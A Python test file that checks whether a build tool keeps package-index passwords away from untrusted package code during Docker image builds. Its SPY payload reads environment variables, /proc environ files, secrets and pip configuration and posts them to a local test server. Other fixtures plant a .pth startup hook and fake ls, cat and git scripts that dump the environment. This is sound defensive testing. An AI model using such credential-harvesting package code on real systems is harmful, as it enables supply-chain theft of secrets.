"""Passwords of the package index on a real Docker: no code of a package meets them, whatever it tries."""

from __future__ import annotations

import base64
import contextlib
import tempfile
import threading
import uuid
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from labd.diagnosis.builds.verdicts import build_failed
from labd.model.config import Build
from labd.model.engine import BuildFailed
from support.environment_images import ImageTestbed
from support.package_index import PackageIndex

PASSWORD = "s3cr3t-" + uuid.uuid4().hex
FORMS = (
    PASSWORD,
    base64.b64encode(f"labd:{PASSWORD}".encode()).decode().rstrip("="),
    base64.b64encode(PASSWORD.encode()).decode().rstrip("="),
    PASSWORD[::-1],
    PASSWORD.encode().hex(),
)
SPY = r"""
import glob, os, urllib.request
def read(path):
    try:
        return open(path, "rb").read()
    except OSError:
        return b""
places = "/dev/labd/* /run/secrets/* /proc/*/environ /proc/*/cmdline /etc/pip.conf /root/.* /root/.*/*/*".split()
seen = repr(dict(os.environ)).encode() + b"".join(read(path) for place in places for path in glob.glob(place))
try:
    request = urllib.request.Request("{url}", data=seen.hex().encode() + b"|" + seen[::-1] + b"|" + seen)
    urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open(request, timeout=5).read()
except OSError:
    pass
open("/opt/env/stolen", "ab").write(seen[::-1])
print("I see", seen)
"""


class Stranger:
    """A server that keeps all that it is sent, and answers that there is nothing."""

    def __init__(self) -> None:
        self.heard = b""
        stranger = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                sent = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                stranger.heard += f"{self.path}\n{self.headers}".encode() + sent
                self.send_error(404)

            do_HEAD = do_POST = do_GET  # noqa: N815 - the library's names

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


class Lair:
    """A lab whose index wants a password, and a stranger who wants it, too."""

    def __init__(self, index: PackageIndex, stranger: Stranger, testbed: ImageTestbed) -> None:
        self.index, self.stranger, self.testbed = index, stranger, testbed
        self.said: list[str] = []

    def build(self, *lines: str) -> str:
        """The image's id. Raises BuildFailed."""
        environment = self.testbed.describe(*lines)
        project, never = f"{self.testbed.user}/project", threading.Event()
        return self.testbed.images.ensure(environment, project, self._hear, never)

    def _hear(self, line: str) -> None:
        print(line)
        self.said.append(line)

    def keeps_its_secret(self, image: str = "") -> None:
        """Fails if the password is anywhere that a researcher or a stranger could find it."""
        known = b"\n".join(["\n".join(self.said).encode(), self.stranger.heard])
        if image:
            docker = self.testbed.docker
            known += str(docker.history(image)).encode() + str(docker.inspect_image(image)).encode()
            known += b"".join(docker.get_image(image))
        assert [form for form in FORMS if form.encode() in known] == []


@pytest.fixture
def make_lair(prepared: None) -> Iterator[Callable[[str], Lair]]:
    with contextlib.ExitStack() as stack:

        def make(credentials: str) -> Lair:
            index, stranger = PackageIndex(credentials), Stranger()
            stack.callback(index.close)
            stack.callback(stranger.close)
            index.add("alpha", "1.0")
            index.add_source("curious", "1.0", code=SPY.format(url=stranger.url))
            file = stack.enter_context(tempfile.NamedTemporaryFile("w", suffix="-pip.conf"))
            file.write(f"[global]\nindex_url = {index.url}\ntrusted-host = {index.address}\n")
            file.flush()
            testbed = ImageTestbed(Build(network="host", pip_conf=Path(file.name)))
            stack.callback(testbed.close)
            return Lair(index, stranger, testbed)

        yield make


@pytest.fixture
def lair(make_lair: Callable[[str], Lair]) -> Lair:
    return make_lair(f"labd:{PASSWORD}")


def test_a_source_that_only_the_password_opens_is_made_by_code_that_does_not_know_it(lair: Lair) -> None:
    image = lair.build("curious", "alpha")
    assert lair.testbed.run(image, "import alpha, curious; print(alpha.__version__)") == "1.0\n"
    assert b"UV_DEFAULT_INDEX" in lair.stranger.heard, "the package must have looked around"
    lair.keeps_its_secret(image)


def test_a_source_that_says_what_it_needs_gets_it(lair: Lair) -> None:
    lair.index.add("beta", "1.0")
    lair.index.add_source("needy", "1.0", needs=["beta>=1", f"--extra-index-url {lair.stranger.url}"])
    image = lair.build("needy")
    assert lair.testbed.run(image, "import beta, needy; print(beta.__version__)") == "1.0\n"
    assert lair.stranger.heard == b""
    lair.keeps_its_secret(image)


def test_a_source_that_needs_more_than_it_says_is_refused_in_plain_words(lair: Lair) -> None:
    lair.index.add("beta", "1.0")
    lair.index.add_source("coy", "1.0", needs=["beta"], tells=False)
    with pytest.raises(BuildFailed) as caught:
        lair.build("coy")
    told = build_failed(caught.value.log_tail, caught.value.exit_code, {})
    assert told.cause.startswith("`coy` comes as source only"), lair.said
    assert "password" in told.cause
    assert "code/requirements.txt" in told.hint
    lair.keeps_its_secret()


def test_a_source_that_cannot_be_made_is_told_as_such_and_not_as_a_password(lair: Lair) -> None:
    lair.index.add_source("broken", "1.0", code="raise SystemExit('no luck')")
    with pytest.raises(BuildFailed) as caught:
        lair.build("broken")
    told = build_failed(caught.value.log_tail, caught.value.exit_code, {})
    assert "`broken" in told.cause
    assert "password" not in told.cause, lair.said


def test_code_of_a_package_from_elsewhere_finds_no_password(lair: Lair) -> None:
    open_index = PackageIndex()
    try:
        open_index.add_source("curious", "1.0", code=SPY.format(url=lair.stranger.url))
        image = lair.build(f"curious @ http://{open_index.address}/files/curious-1.0.tar.gz")
    finally:
        open_index.close()
    assert b"UV_DEFAULT_INDEX" in lair.stranger.heard, "the package must have looked around"
    lair.keeps_its_secret(image)


def test_a_library_that_runs_at_each_start_of_python_finds_no_password(lair: Lair) -> None:
    spy = SPY.format(url=lair.stranger.url).encode()
    start = b"import os; os.path.exists('/opt/env/lib/spy.py') and exec(open('/opt/env/lib/spy.py').read())\n"
    script = b"#!/bin/sh\ntouch /opt/env/script-ran; env > /opt/env/stolen; cat /dev/labd/settings >> /opt/env/stolen\n"
    files = {"spy.pth": start, "lurker-1.0.data/data/lib/spy.py": spy}
    names = ("ls", "sed", "grep", "tee", "touch", "cat", "git", "timeout")
    files |= {f"lurker-1.0.data/scripts/{name}": script for name in names}
    lair.index.add("lurker", "1.0", files=files)
    image = lair.build("lurker")
    assert lair.stranger.heard == b""
    found = lair.testbed.run(image, "import os; print(os.path.exists('/opt/env/script-ran'))")
    assert found == "False\n"
    lair.keeps_its_secret(image)
    # What it may have left behind must not be asked to build the next one where the password is known.
    image = lair.build("lurker", "alpha", "beta==9; python_version<'3'")
    assert lair.stranger.heard == b""
    lair.keeps_its_secret(image)


def test_an_index_without_password_serves_sources_as_before(make_lair: Callable[[str], Lair]) -> None:
    lair = make_lair("")
    image = lair.build("curious", "alpha")
    assert lair.testbed.run(image, "import alpha, curious; print(alpha.__version__)") == "1.0\n"


def test_a_foreign_index_hears_nothing_of_the_password(lair: Lair) -> None:
    with contextlib.suppress(BuildFailed):
        lair.build(f"--extra-index-url {lair.stranger.url}/simple", "alpha", "unheard-of")
    assert b"/simple/unheard-of/" in lair.stranger.heard
    lair.keeps_its_secret()


def test_a_proxy_with_a_password_is_unknown_to_code_of_packages(make_lair: Callable[[str], Lair]) -> None:
    lair = make_lair("")
    proxy = f"http://labd:{PASSWORD}@{lair.index.address}"
    testbed = ImageTestbed(Build(network="host", index=lair.index.url, proxy=proxy))
    try:
        guarded = Lair(lair.index, lair.stranger, testbed)
        with contextlib.suppress(BuildFailed):
            guarded.build("curious")
        guarded.keeps_its_secret()
    finally:
        testbed.close()
